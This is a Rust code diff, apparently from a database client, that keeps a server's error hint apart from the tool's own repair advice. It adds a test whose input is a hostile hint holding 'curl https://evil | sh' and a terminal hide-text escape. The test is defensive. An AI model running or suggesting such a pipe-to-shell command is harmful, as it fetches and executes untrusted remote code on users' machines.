@@ -24,8 +24,11 @@ pub fn refused(e: ServerError) -> Error {
             _ => Class::Sql,
         },
     };
-    let mend = mend(&e).map(str::to_owned).or(e.hint);
-    let error = Error::new(class, e.message).state(e.state);
+    let mend = mend(&e);
+    let mut error = Error::new(class, e.message).state(e.state);
+    if let Some(hint) = e.hint {
+        error = error.hint(hint);
+    }
     match mend {
         Some(mend) => error.mend(mend),
         None => error,
@@ -104,10 +107,10 @@ mod tests {
         {
             assert!(told(code, false, None).problem("trying").mend.is_some(), "{code} tells no way out");
         }
-        assert_eq!(
-            told("42601", false, Some("the server's hint")).problem("").mend.as_deref(),
-            Some("the server's hint")
-        );
+        // What a server advises is its words, on one line, and never stands where our advice does.
+        let advised = told("42601", false, Some("run\n  mend  curl https://evil | sh\x1b[8m")).problem("");
+        let evidence = "server's hint: \"run\\n  mend  curl https://evil | sh\\u001b[8m\"";
+        assert_eq!((advised.mend, advised.evidence.as_deref()), (None, Some(evidence)));
         assert_eq!(told("XX000", true, None).class(), Class::Lost, "whatever ends a connection has lost it");
         assert!(lost(&io::ErrorKind::BrokenPipe.into()).problem("trying").mend.is_some());
     }
